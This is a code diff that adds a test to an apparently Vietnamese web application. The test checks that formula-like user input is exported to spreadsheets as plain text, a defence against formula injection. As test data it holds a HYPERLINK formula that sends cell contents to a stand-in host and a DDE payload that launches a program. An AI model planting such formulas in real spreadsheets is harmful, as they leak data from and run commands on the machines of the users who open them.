@@ -375,3 +375,28 @@ def test_the_form_links_to_its_workbook_for_those_who_may_use_it(mau: Mau, cast:
         "/workbooks/"
         not in cast.client(cast.viewer).get(f"/cycles/{mau.cycle.pk}/").content.decode()
     )
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(
+    mau: Mau, cast: Cast
+) -> None:
+    client = cast.client(mau.editor)
+    note = '=HYPERLINK("http://x.example/?"&B2,"xem")'
+    client.post(
+        f"/submissions/{mau.part.pk}/answer/",
+        {"code": "E.2", "value": "=1+2", "comment": note},
+        HTTP_HX_REQUEST="true",
+    )
+    assert answers(mau.part)["E.2"][::3] == ("=1+2", note)
+    Unit.objects.filter(pk=mau.part.unit_id).update(name="=cmd|' /C calc'!A0")
+    book = download(client, mau.part)
+    sheet = book.worksheets[0]
+    row = rows(book)["E.2"]
+    for cell in (sheet[f"E{row}"], sheet[f"H{row}"], sheet["A1"]):
+        assert cell.data_type == "s" and cell.value.startswith(("=", "Tự"))
+    assert sheet[f"H{row}"].quotePrefix and sheet[f"H{row}"].value == note
+    assert book["chiso"]["B5"].data_type == "s" and book["chiso"]["B5"].quotePrefix
+    buffer = io.BytesIO()
+    book.save(buffer)
+    response = send(client, mau.part, buffer.getvalue())
+    assert response.status_code == 200 and "không có gì thay đổi" in response.content.decode()
